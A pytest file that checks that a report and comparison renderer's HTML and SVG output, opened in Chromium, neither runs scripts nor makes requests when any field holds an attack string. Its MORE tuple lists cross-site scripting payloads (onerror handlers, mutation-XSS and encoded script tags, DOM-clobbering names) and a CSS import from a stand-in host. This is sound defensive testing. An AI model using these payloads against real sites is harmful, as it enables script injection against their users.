"""Single payloads × fields × formats in Chromium: each payload in each field of all that a browser shows.

No script runs, nothing is asked for, and each page has the elements that a page of harmless words has. Short
payloads share a field, and several pages a tab; where one fails, its payloads are tried alone.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from typing import Any

import pytest

import slim
from slim.report.comparison import Comparison
from slim.report.model import Report
from tests.real.browser import Browser, page
from tests.real.site import HTML, PAYLOADS, Site, dangerous
from tests.support.everywhere import field, filled, places
from tests.support.pages import rendered
from tests.support.reports import wasteful

pytestmark = pytest.mark.real

MORE = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--",
    "--><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<template><script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)",
    '"onfocus=alert(1) autofocus x="',
    "`onload=alert(1)`",
    '";alert(1);//',
    "');alert(1);//",
    "${alert(1)}",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    '0|x|99|99|l1" onmouseover=alert(1)|n1',
    "a|b|c|d",
    "@import '//evil.example/x';",
    "expression(alert(1))",
    "<form id=search><input name=querySelector>",
    "__proto__",
    "constructor",
    "<plaintext>",
    "<xmp>",
    "<textarea>",
)
"""More names: for nested parsers, entities, code, lines of the map; and such that clobber others."""
TOGETHER = 120
"""Characters of payloads that share a field: less than any output cuts off."""
AT_ONCE = 8
"""Pages in one tab."""
BARE = "<!doctype html><title>x</title><link rel=icon href=data:,>"
STATE = """
[...document.querySelectorAll("iframe")].map(frame => {
  const page = frame.contentDocument, all = [...page.querySelectorAll("*")];
  return {
    tags: [...new Set(all.map(one => one.localName))].sort(),
    attributes: [...new Set(all.flatMap(one => one.getAttributeNames()))].sort(),
    handlers: all.flatMap(one => one.getAttributeNames())
      .filter(name => /^on|^srcdoc$|^style$/.test(name)).length,
    links: all.map(one => one.getAttribute("href")).filter(to => to && !to.startsWith("#")),
    scripts: page.scripts.length,
    wide: page.documentElement.scrollWidth > frame.contentWindow.innerWidth,
    last: page.documentElement.lastElementChild.lastElementChild?.localName,
  };
})
"""


def _report() -> Report:
    return dangerous(("x",))


DOCUMENTS: dict[str, Callable[[], Report | Comparison]] = {
    "report": _report,
    "comparison": lambda: slim.compare(wasteful(), _report()),
}


@dataclass(frozen=True)
class Shown:
    """Pages of one format of one document, with a text in every place that takes any."""

    chromium: Browser
    site: Site
    document: Report | Comparison
    format: str

    def fault(self, texts: Sequence[str]) -> str:
        """What is wrong with the pages of these texts, opened in one tab; empty if nothing is."""
        names = [f"page-{at}" for at in range(len(texts) + 1)]
        for name, text in zip(names, ("harmless words", *texts), strict=True):
            sound = text.encode("utf-8", "replace").decode()
            document = filled(self.document, places(self.document), sound)
            kind = "image/svg+xml" if self.format == "svg" else HTML
            self.site.add(name, rendered(document, self.format), kind=kind)
        frames = (f"<iframe src=/{name} width=1200 height=800></iframe>" for name in names)
        address = self.site.add("all", BARE + "".join(frames))
        self.site.requested.clear()
        with page(self.chromium) as tab:
            tab.open(address)
            complaints = tab.complaints()
            usual, *states = tab.run(STATE)
        if complaints:
            return f"complaints: {complaints}"
        if sorted(self.site.requested) != sorted(["/all", *(f"/{name}" for name in names)]):
            return f"asked: {self.site.requested}"
        return next(self._differences(usual, texts, states), "") or self._own(usual)

    def _own(self, usual: dict[str, Any]) -> str:
        harmless = {"handlers": 0, "links": [], "scripts": self.format == "html", "wide": False}
        return "" if usual.items() >= harmless.items() else f"harmless words: {usual}"

    @staticmethod
    def _differences(
        usual: dict[str, Any], texts: Sequence[str], states: Sequence[dict[str, Any]]
    ) -> Iterator[str]:
        for text, state in zip(texts, states, strict=True):
            for key, value in state.items():
                if value != usual[key]:
                    yield f"{text[:300]!r}: {key} {value} instead of {usual[key]}"


def grouped(payloads: Sequence[str]) -> list[list[str]]:
    groups: list[list[str]] = [[]]
    for payload in payloads:
        if groups[-1] and len(" ".join((*groups[-1], payload))) > TOGETHER:
            groups.append([])
        groups[-1].append(payload)
    return groups


@pytest.mark.parametrize("format", ["html", "svg"])
@pytest.mark.parametrize("kind", DOCUMENTS)
def test_no_payload_does_anything_in_any_field(
    chromium: Browser, site: Site, kind: str, format: str
) -> None:
    shown = Shown(chromium, site, DOCUMENTS[kind](), format)
    payloads = (*PAYLOADS, *MORE)
    fields = {field(at) for at in places(shown.document)}
    assert len(payloads) * len(fields) > 2_500, "pairs of payload and field"
    groups = grouped(payloads)
    for first in range(0, len(groups), AT_ONCE):
        some = groups[first : first + AT_ONCE]
        if fault := shown.fault([" ".join(group) for group in some]):
            alone = [shown.fault([payload]) for group in some for payload in group]
            raise AssertionError(next(filter(None, alone), fault))


def test_a_page_that_runs_what_it_shows_is_found(chromium: Browser, site: Site) -> None:
    """The test above can fail: an image that asks for something, and an element that no page has."""
    address = site.add("broken", f"{BARE}<img src=/asked>")
    frame = site.add("frame", f"{BARE}<iframe src={address}></iframe>")
    site.requested.clear()
    with page(chromium) as tab:
        tab.open(frame)
        assert tab.complaints()
        assert "img" in tab.run(STATE)[0]["tags"]
    assert "/asked" in site.requested
